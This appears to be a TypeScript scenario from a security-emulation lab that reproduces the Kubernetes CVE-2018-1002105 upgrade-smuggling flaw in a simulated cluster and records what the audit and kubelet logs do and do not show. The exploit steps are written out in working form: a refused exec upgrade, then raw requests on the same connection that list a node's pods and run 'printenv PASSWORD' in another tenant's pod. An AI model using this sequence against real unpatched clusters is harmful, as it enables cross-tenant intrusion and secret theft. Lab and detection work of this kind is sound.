import { Transport } from '../../network/transport';
import { formatRequestHead } from '../../wire/http-head';
import { addresses, ports } from '../addresses';
import { createObjects } from '../create-workloads';
import { auditLog } from './audited';
import { runPodWithPassword } from './pod-with-password';
import { nextAnswer } from './raw-http';
import type { Scenario } from './scenario';

const CVE = 'CVE-2018-1002105';

export const smuggledBehindUpgrade: Scenario = {
  id: 'smuggled-behind-upgrade',
  title: 'a refused upgrade that leaves its user connected to the kubelet',
  story:
    'Before its fix kube-apiserver joined the two connections of an upgrade without looking at the answer. A tenant who may exec into a pod of his own asks for an exec that the kubelet must refuse. The refusal comes back, and the connection stays: whatever he writes on it now goes to the kubelet as it is, on a connection on which the apiserver has shown its own certificate. He is the apiserver to every pod of that node.',
  needs: 'The right to exec into a pod of one’s own, and an apiserver of before the fix.',
  evidence:
    'The output of a command in a pod of another namespace, and the kubelet’s log of a request that the audit log does not have.',
  attack: ['T1609'],
  setting: {
    name: `kube-apiserver --midplane-emulate-cve=${CVE}`,
    open: 'set: as before 1.10.11, 1.11.5 and 1.12.3',
    fixed: 'unset: only behind a 101 are the connections joined',
  },
  notice:
    'The audit log has one request, the exec, told as 101 although it failed; what was smuggled behind it is in none, for the apiserver never read it. The kubelet’s log (-v=4, http.go) has requests of kube-apiserver-kubelet-client that no audit event goes with: more than one on the connection of a refused exec.',
  sources: [
    'CVE-2018-1002105 (kubernetes/kubernetes#71411)',
    'k8s.io/apimachinery pkg/util/proxy/upgradeaware.go (tryUpgrade)',
  ],
  async play(stage, twin) {
    const { signal } = stage;
    const audit = await auditLog(stage);
    const cluster = await stage.cluster({
      apiserverFlags: [audit.flag, ...(twin === 'open' ? [`--midplane-emulate-cve=${CVE}`] : [])],
    });
    const { attackerHost, admin, credentials, fabric } = cluster;
    const password = await runPodWithPassword(stage, cluster, 'node-1');
    const account = { namespace: 'tenant', name: 'mallory' };
    const rules = [{ apiGroups: [''], resources: ['pods/exec'], verbs: ['create'] }];
    const token = await credentials.token({ ...account, rules });
    const spec = { nodeName: 'node-1', containers: [{ name: 'mine', image: 'midplane/shell' }] };
    const pod = { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'mine', namespace: 'tenant' }, spec };
    await createObjects(admin, [{ path: '/api/v1/namespaces/tenant/pods', object: pod }]);
    await cluster.whenRunning('node-1', 'tenant', 'mine');
    await stage.did(
      'admin',
      'kubectl -n tenant run mine …',
      'pod/mine runs on node-1; mallory may create pods/exec',
    );

    const heard: string[] = [];
    const stop = fabric.timeline.subscribe(({ host, kind, data }) => {
      if (
        host === 'node-1' &&
        kind === 'request-received' &&
        data['user'] === 'kube-apiserver-kubelet-client'
      )
        heard.push(`${data['method']} ${String(data['path']).split('?')[0]}`);
    });
    const trust = () => cluster.clientTrust(addresses.controlPlane);
    const target = { host: addresses.controlPlane, port: ports.apiserver, scheme: 'https' as const };
    const peer = await new Transport({ from: attackerHost, trust }).connect(target, { signal });
    if (peer.kind === 'refusal') throw new Error(`the apiserver was not reached: ${peer.text}`);
    const { socket } = peer;
    socket.on('error', () => undefined);
    const write = (method: string, path: string, more: readonly (readonly [string, string])[] = []): void => {
      const headers = [['Host', 'kubernetes'], ['Content-Length', '0'], ...more] as const;
      if (socket.writable) socket.write(formatRequestHead({ method, target: path, headers }));
    };

    // Without stdin, stdout and stderr, which a kubelet refuses with 400.
    write('POST', '/api/v1/namespaces/tenant/pods/mine/exec?command=id&container=mine', [
      ['Authorization', `Bearer ${token}`],
      ['Connection', 'Upgrade'],
      ['Upgrade', 'SPDY/3.1'],
    ]);
    const refused = await nextAnswer(socket);
    await stage.did(
      'attacker',
      'POST …/namespaces/tenant/pods/mine/exec?command=id, Upgrade: SPDY/3.1',
      `${refused?.status} ${refused?.body.trim()}`,
    );
    const ask = async (method: string, path: string) => {
      write(method, path);
      return nextAnswer(socket);
    };
    const pods = await ask('GET', '/pods');
    const list = 'on the same connection: GET /pods';
    const CLOSED = 'the apiserver has closed the connection';
    if (pods?.body.includes(password)) {
      const names = (JSON.parse(pods.body) as { items: { metadata: { name: string } }[] }).items;
      const saw = `200, ${names.length} pods of node-1; db has PASSWORD=${password}`;
      await stage.gained('attacker', list, saw, 'every pod of the node with its environment');
    } else
      await stage.refused('attacker', list, pods === null ? CLOSED : `${pods.status} ${pods.body.trim()}`);
    const run = await ask('POST', '/run/default/db/db?cmd=printenv+PASSWORD');
    const command = 'on the same connection: POST /run/default/db/db?cmd=printenv+PASSWORD';
    if (run?.body.includes(password))
      await stage.gained(
        'attacker',
        command,
        `200 ${run.body.trim()}`,
        'a command run in the pod of somebody else',
      );
    else await stage.refused('attacker', command, run === null ? CLOSED : `${run.status} ${run.body.trim()}`);
    socket.destroy();
    stop();

    await stage.did('admin', 'journalctl -u kubelet, on node-1', heard.join(', '));
    const told = await audit.told(cluster, `system:serviceaccount:${account.namespace}:${account.name}`);
    await stage.did('admin', 'grep mallory audit.log', told.join(', '));
  },
};
